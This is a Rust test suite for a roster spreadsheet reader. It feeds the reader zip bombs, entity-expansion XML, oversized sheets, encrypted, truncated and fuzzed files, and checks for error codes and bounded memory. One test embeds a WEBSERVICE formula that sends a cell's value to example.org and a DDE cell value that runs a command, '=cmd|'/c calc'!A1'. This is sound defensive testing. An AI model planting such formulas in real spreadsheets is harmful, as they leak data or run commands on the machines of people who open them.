//! Files made to harm and files that broke on the way: each is refused with a code or read within bounds, in bounded
//! memory, and nothing panics.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test stops at what fails")]

mod common;

use std::alloc::{GlobalAlloc, Layout, System};
use std::io::{Cursor, Write};
use std::panic::catch_unwind;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::sync::{Mutex, MutexGuard, PoisonError};

use caixiang_roster::limits::{MAX_COLUMNS, MAX_FILE_BYTES, MAX_PARTS, MAX_ROWS};
use caixiang_roster::{Mapping, Workbook, judge};
use common::{
    RELS, STYLES, TYPES, WORKBOOK, WORKBOOK_RELS, convert, excel, package, rows, sheet, strings, text,
};
use proptest::prelude::*;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// Counts what is allocated: now, and the most since it was asked last.
struct Counting;

static NOW: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);
/// One at a time: the counts are of the whole process.
static ALONE: Mutex<()> = Mutex::new(());

// SAFETY: everything is passed on to the system's allocator unchanged.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        PEAK.fetch_max(NOW.fetch_add(layout.size(), Relaxed) + layout.size(), Relaxed);
        // SAFETY: as the caller promises.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, pointer: *mut u8, layout: Layout) {
        NOW.fetch_sub(layout.size(), Relaxed);
        // SAFETY: as the caller promises.
        unsafe { System.dealloc(pointer, layout) }
    }
}

#[global_allocator]
static COUNTING: Counting = Counting;

/// The most that any file may make the reader allocate, its own bytes included.
const MOST: usize = 700 << 20;

/// Opens bytes and reads and judges every sheet: the code of what went wrong, or how many rows there are.
fn read(bytes: Vec<u8>) -> Result<usize, &'static str> {
    let mut book = Workbook::from_bytes(bytes, "名单").map_err(|error| error.code())?;
    let mut count = 0;
    for sheet in book.sheets().to_vec() {
        let table = book.table(&sheet).map_err(|error| error.code())?;
        assert!(table.rows.len() <= MAX_ROWS && table.width() <= MAX_COLUMNS);
        if !table.rows.is_empty() {
            judge(&table, &Mapping::guess(&table)).unwrap();
        }
        count += table.rows.len();
    }
    Ok(count)
}

/// For as long as a test runs, so that nothing else is counted.
fn alone() -> MutexGuard<'static, ()> {
    ALONE.lock().unwrap_or_else(PoisonError::into_inner)
}

/// As [`read`], measured; whoever calls it is [`alone`].
fn check(name: &str, bytes: Vec<u8>, expected: Result<usize, &'static str>) {
    let before = NOW.load(Relaxed);
    PEAK.store(before, Relaxed);
    let found = catch_unwind(|| read(bytes)).expect(name);
    let most = PEAK.load(Relaxed).saturating_sub(before) >> 20;
    println!("{name}: {found:?}, {most} MiB");
    assert_eq!(found, expected, "{name}");
    assert!(most << 20 <= MOST, "{name} took {most} MiB");
}

/// A workbook with other parts than [`excel`] has.
fn with(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let sheet = sheet("", r#"<row r="1"><c r="A1"><v>1</v></c></row>"#);
    let usual: [(&str, &[u8]); 6] = [
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("xl/workbook.xml", WORKBOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.as_bytes()),
        ("xl/styles.xml", STYLES.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    let kept = usual.into_iter().filter(|(name, _)| parts.iter().all(|(other, _)| other != name));
    package(&kept.chain(parts.iter().copied()).collect::<Vec<_>>())
}

#[test]
fn workbooks_that_grow() {
    let _alone = alone();
    check("the usual parts", with(&[]), Ok(1));
    check("a bomb", with(&[("xl/media/a.bin", &vec![0; 200 << 20])]), Err("roster.bomb"));
    check("a larger one", with(&[("xl/media/a.bin", &vec![0; 300 << 20])]), Err("roster.too_large"));
    let spaces = sheet(&" ".repeat(200 << 20), "");
    check(
        "a bomb in a sheet",
        with(&[("xl/worksheets/sheet1.xml", spaces.as_bytes())]),
        Err("roster.damaged"),
    );
    drop(spaces);
    let mut state = 1_u64;
    let mut random = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    };
    let noise: Vec<u8> = (0..3 << 20).flat_map(|_| random()).collect();
    let parts: [(&str, &[u8]); 3] = [("a.bin", &noise), ("b.bin", &noise), ("c.bin", &noise)];
    let three = with(&parts);
    assert!(three.len() as u64 > MAX_FILE_BYTES, "{}", three.len());
    drop(noise);
    check("too long a file", three, Err("roster.too_large"));
    let inner = package(&[("a.bin", &vec![0; 20 << 20])]);
    check("a workbook in an archive", package(&[("名单.xlsx", &inner)]), Err("roster.wrong_kind"));
    check("an archive in a workbook", with(&[("xl/embeddings/a.zip", &inner)]), Ok(1));
    let names: Vec<String> = (0..=MAX_PARTS).map(|n| format!("{n}")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    check("too many parts", with(&many), Err("roster.too_large"));
}

#[test]
fn workbooks_that_declare_too_much() {
    let _alone = alone();
    let one = r#"<row r="1"><c r="A1"><v>1</v></c></row>"#;
    let dimension = r#"<dimension ref="A1:XFD1048576"/>"#;
    check("a giant dimension", excel(dimension, one, &strings(&[])), Ok(1));
    let far = r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>"#;
    check("two cells far apart", excel("", far, &strings(&[])), Ok(2));
    let beyond = r#"<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>"#;
    check("a row beyond the last", excel("", beyond, &strings(&[])), Err("roster.damaged"));
    let wide = r#"<row r="1"><c r="XFD1"><v>1</v></c></row>"#;
    check("a column too far right", excel("", wide, &strings(&[])), Err("roster.too_large"));
    let wide: String = (0..1_000_000).map(|_| "<c><v>1</v></c>").collect();
    check(
        "a million columns",
        excel("", &format!("<row>{wide}</row>"), &strings(&[])),
        Err("roster.too_large"),
    );
    let long: String = (0..1_000_000).map(|_| "<row><c><v>1</v></c></row>").collect();
    check("a million rows", excel("", &long, &strings(&[])), Err("roster.too_large"));
    let blank: String = (0..1_000_000).map(|_| "<row><c s=\"1\"/></row>").collect();
    check("a million blank rows", excel("", &(blank + one), &strings(&[])), Ok(1));
    let unique = strings(&["a"]).replace("uniqueCount=\"1\"", "uniqueCount=\"99999999999999\"");
    check("shared strings that are declared", excel("", one, &unique), Err("roster.too_large"));
    let empty = strings(&[]).replace("</sst>", &("<si/>".repeat(4_000_000) + "</sst>"));
    check("shared strings of nothing", excel("", one, &empty), Err("roster.too_large"));
    let rows: String = (1..=50_000)
        .map(|row| format!("<row r=\"{row}\">{}</row>", "<c t=\"s\"><v>0</v></c>".repeat(50)))
        .collect();
    check(
        "one long text everywhere",
        excel("", &rows, &strings(&[&"很".repeat(30_000)])),
        Err("roster.too_large"),
    );
    let one_text = strings(&["字"]).replace('字', &"a".repeat(100 << 20));
    check("a text without end", excel("", one, &one_text), Err("roster.damaged"));
    let pieces = strings(&["字"]).replace('字', &"&amp;".repeat(20 << 20));
    check("a text of pieces without end", excel("", one, &pieces), Err("roster.too_large"));
    let comment = sheet(&format!("<!--{}-->", "> ".repeat(50 << 20)), one);
    check(
        "a comment without end",
        with(&[("xl/worksheets/sheet1.xml", comment.as_bytes())]),
        Err("roster.damaged"),
    );
    let xf = r#"<xf numFmtId="0" fontId="0"/>"#;
    let styles = STYLES.replace("<cellXfs count=\"3\">", &("<cellXfs>".to_owned() + &xf.repeat(200_000)));
    check("styles without end", with(&[("xl/styles.xml", styles.as_bytes())]), Err("roster.too_large"));
    let styles = STYLES.replace("等线", &"字".repeat(10_000));
    check("a font with a long name", with(&[("xl/styles.xml", styles.as_bytes())]), Err("roster.damaged"));
    let sheets =
        WORKBOOK.replace("</sheets>", &(r#"<sheet name="a" r:id="rId1"/>"#.repeat(500) + "</sheets>"));
    check("sheets without end", with(&[("xl/workbook.xml", sheets.as_bytes())]), Err("roster.too_large"));
    let elsewhere = WORKBOOK_RELS.replace("worksheets/sheet1.xml", "media/a.png");
    let parts: [(&str, &[u8]); 2] = [
        ("xl/_rels/workbook.xml.rels", elsewhere.as_bytes()),
        ("xl/media/a.png", b"<worksheet><sheetData/>"),
    ];
    check("a sheet in a picture", with(&parts), Err("roster.damaged"));
}

#[test]
fn entities_formulas_and_macros() {
    let _alone = alone();
    let laughs = r#"<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>"#;
    check("entities", with(&[("xl/worksheets/sheet1.xml", laughs.as_bytes())]), Err("roster.document_type"));
    let undeclared = r#"<row><c t="inlineStr"><is><t>&b;</t></is></c></row>"#;
    check("an entity that is none", excel("", undeclared, &strings(&[])), Err("roster.damaged"));
    let formula = r#"<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://example.org/"&amp;A2)</f><v>=cmd|'/c calc'!A1</v></c></row>"#;
    let parts: [(&str, &[u8]); 2] =
        [("xl/vbaProject.bin", b"\xD0\xCF\x11\xE0 macros"), ("xl/externalLinks/a.xml", b"<a/>")];
    let sheet = sheet("", formula);
    let bytes = with(&[parts[0], parts[1], ("xl/worksheets/sheet1.xml", sheet.as_bytes())]);
    let mut book = Workbook::from_bytes(bytes.clone(), "").unwrap();
    assert_eq!(book.table("Sheet1").unwrap().rows[0].cell(0), "=cmd|'/c calc'!A1");
    check("macros and links", bytes, Ok(1));
}

#[test]
fn texts_that_are_no_rosters() {
    let _alone = alone();
    check("nothing", Vec::new(), Err("roster.empty"));
    check("blanks", b" \r\n\r\n".to_vec(), Err("roster.empty"));
    let mut open = b"a,b\n1,\"".to_vec();
    open.extend(b"2,x\n".repeat(15 << 20));
    check("a quotation mark without end", open, Err("roster.open_quote"));
    check("a million columns", b"1,".repeat(1_000_000), Err("roster.too_large"));
    check("a million blank columns", b",".repeat(1_000_000).into_iter().chain(*b"\na,b\n").collect(), Ok(1));
    check("a million rows", b"1,2\n".repeat(1_000_000), Err("roster.too_large"));
    check("a million blank rows", b",\n".repeat(10_000_000).into_iter().chain(*b"a,b\n").collect(), Ok(1));
    check("one line without end", b"x".repeat(60 << 20), Ok(1));
    check("too long", b"x".repeat((64 << 20) + 1), Err("roster.too_large"));
    check("zeros", vec![0; 1 << 20], Err("roster.wrong_kind"));
}

/// A few students in every kind of file.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.csv");
    std::fs::write(&path, text(&rows(20), ",")).unwrap();
    let [xlsx, xls] = ["xlsx", "xls"].map(|to| std::fs::read(convert(&path, to)).unwrap());
    let by_hand = excel(
        "",
        r#"<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1"><v>3</v></c></row>"#,
        &strings(&["学号"]),
    );
    vec![("xlsx", xlsx), ("xls", xls), ("by hand", by_hand), ("text", std::fs::read(&path).unwrap())]
}

#[test]
fn files_that_end_early() {
    let _alone = alone();
    for (name, bytes) in samples() {
        assert!(read(bytes.clone()).is_ok(), "{name}");
        let ends = (0..bytes.len()).step_by(bytes.len() / 60 + 1);
        for end in ends {
            let found = catch_unwind(|| read(bytes[..end].to_vec())).expect(name);
            assert!(name == "text" || found.is_err(), "{name} {end} {found:?}");
        }
    }
}

#[test]
fn old_workbooks_that_harm() {
    let _alone = alone();
    let (_, xls) = samples().swap_remove(1);
    let stream = |bytes: &[u8]| {
        let mut container = cfb::CompoundFile::open(Cursor::new(bytes)).unwrap();
        let mut stream = Vec::new();
        std::io::Read::read_to_end(&mut container.open_stream("/Workbook").unwrap(), &mut stream).unwrap();
        stream
    };
    let pack = |name: &str, stream: &[u8]| {
        let mut container = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        container.create_stream(name).unwrap().write_all(stream).unwrap();
        container.into_inner().into_inner()
    };
    let good = stream(&xls);
    check("as it was", pack("/Workbook", &good), Ok(21));
    let find = |kind: u16| {
        let mut at = 0;
        while u16::from_le_bytes([good[at], good[at + 1]]) != kind {
            at += 4 + usize::from(u16::from_le_bytes([good[at + 2], good[at + 3]]));
        }
        at + 4
    };
    let changed = |at: usize, bytes: &[u8]| {
        let mut stream = good.clone();
        stream[at..at + bytes.len()].copy_from_slice(bytes);
        pack("/Workbook", &stream)
    };
    let dimensions = find(0x0200);
    check("giant dimensions", changed(dimensions, &[0, 0, 0, 0, 255, 255, 255, 255, 0, 0, 255, 255]), Ok(21));
    let first = find(0x00FD);
    check("a cell far right", changed(first + 2, &200_u16.to_le_bytes()), Err("roster.too_large"));
    check("a sheet nowhere", changed(find(0x0085), &[255; 4]), Err("roster.damaged"));
    check("a long shared string", changed(find(0x00FC) + 8, &[255, 255]), Err("roster.damaged"));
    // One long shared text in every cell.
    let mut bomb = vec![];
    let record = |kind: u16, data: &[u8]| {
        let length = u16::try_from(data.len()).unwrap();
        [&kind.to_le_bytes()[..], &length.to_le_bytes(), data].concat()
    };
    bomb.extend(record(0x0809, &[0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]));
    let name_at = bomb.len() + 4;
    bomb.extend(record(0x0085, &[0, 0, 0, 0, 0, 0, 1, 0, b'a']));
    let text = [&[1, 0, 0, 0, 1, 0, 0, 0][..], &8000_u16.to_le_bytes(), &[0], &[b'x'; 8000]].concat();
    bomb.extend(record(0x00FC, &text));
    bomb.extend(record(0x000A, &[]));
    let start = u32::try_from(bomb.len()).unwrap();
    bomb[name_at..name_at + 4].copy_from_slice(&start.to_le_bytes());
    bomb.extend(record(0x0809, &[0, 6, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]));
    let mut few = bomb.clone();
    for row in 0..50_000_u16 {
        let cell = [&row.to_le_bytes()[..], &[0, 0, 0, 0, 0, 0, 0, 0]].concat();
        bomb.extend(record(0x00FD, &cell));
        if row < 10 {
            few.extend(record(0x00FD, &cell));
        }
    }
    few.extend(record(0x000A, &[]));
    bomb.extend(record(0x000A, &[]));
    check("a text in few cells", pack("/Workbook", &few), Ok(10));
    check("a text in every cell", pack("/Workbook", &bomb), Err("roster.too_large"));
    check("a password on a new workbook", pack("/EncryptedPackage", b"x"), Err("roster.encrypted"));
    check("a letter", pack("/WordDocument", b"x"), Err("roster.wrong_kind"));
    let locked = [record(0x0809, &[0, 6, 5, 0]), record(0x002F, &[1, 0, 0, 0]), good].concat();
    check("a password on an old workbook", pack("/Workbook", &locked), Err("roster.encrypted"));
}

#[test]
fn archives_with_passwords_and_other_packing() {
    let _alone = alone();
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    zip.start_file("[Content_Types].xml", options).unwrap();
    zip.write_all(TYPES.as_bytes()).unwrap();
    let mut bytes = zip.finish().unwrap().into_inner();
    check("a workbook without a workbook", bytes.clone(), Err("roster.damaged"));
    // Bit 0 of the flags: enciphered, in the entry and in the directory.
    let entry = memchr::memmem::find(&bytes, b"PK\x01\x02").unwrap();
    bytes[6] |= 1;
    bytes[entry + 8] |= 1;
    check("an archive with a password", bytes, Err("roster.encrypted"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, max_shrink_iters: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn bytes_at_random(bytes in proptest::collection::vec(any::<u8>(), 0..2000), start in 0_usize..4) {
        let _alone = alone();
        let starts: [&[u8]; 4] = [b"", b"PK\x03\x04", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", b"\xFF\xFE"];
        let _ = read([starts[start], &bytes].concat());
    }
}

#[test]
fn files_with_changed_bytes() {
    let _alone = alone();
    let samples = samples();
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 400,
        max_shrink_iters: 100,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let changes = proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..12);
    runner
        .run(&(0..samples.len(), changes), |(which, changes)| {
            let mut bytes = samples[which].1.clone();
            for (at, byte) in changes {
                let at = at.index(bytes.len());
                bytes[at] = byte;
            }
            let before = NOW.load(Relaxed);
            PEAK.store(before, Relaxed);
            let _ = read(bytes);
            prop_assert!(PEAK.load(Relaxed).saturating_sub(before) < MOST);
            Ok(())
        })
        .unwrap();
}

/// What is inside the containers, changed: their checksums hold, and what is read is wrong.
#[test]
fn contents_with_changed_bytes() {
    let _alone = alone();
    let samples = samples();
    let mut archive = zip::ZipArchive::new(Cursor::new(samples[0].1.clone())).unwrap();
    let parts: Vec<(String, Vec<u8>)> = (0..archive.len())
        .map(|at| {
            let mut part = archive.by_index(at).unwrap();
            let mut content = Vec::new();
            std::io::Read::read_to_end(&mut part, &mut content).unwrap();
            (part.name().unwrap().into_owned(), content)
        })
        .collect();
    let mut container = cfb::CompoundFile::open(Cursor::new(&samples[1].1)).unwrap();
    let mut stream = Vec::new();
    std::io::Read::read_to_end(&mut container.open_stream("/Workbook").unwrap(), &mut stream).unwrap();
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 600,
        max_shrink_iters: 100,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let changes = proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..6);
    runner
        .run(&(any::<bool>(), any::<prop::sample::Index>(), changes), |(old, part, changes)| {
            let change = |bytes: &mut Vec<u8>| {
                for (at, byte) in &changes {
                    let at = at.index(bytes.len());
                    bytes[at] = *byte;
                }
            };
            let bytes = if old {
                let mut stream = stream.clone();
                change(&mut stream);
                let mut container = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
                container.create_stream("/Workbook").unwrap().write_all(&stream).unwrap();
                container.into_inner().into_inner()
            } else {
                let mut parts = parts.clone();
                let which = part.index(parts.len());
                change(&mut parts[which].1);
                package(
                    &parts
                        .iter()
                        .map(|(name, content)| (name.as_str(), content.as_slice()))
                        .collect::<Vec<_>>(),
                )
            };
            let before = NOW.load(Relaxed);
            PEAK.store(before, Relaxed);
            let _ = read(bytes);
            prop_assert!(PEAK.load(Relaxed).saturating_sub(before) < MOST);
            Ok(())
        })
        .unwrap();
}
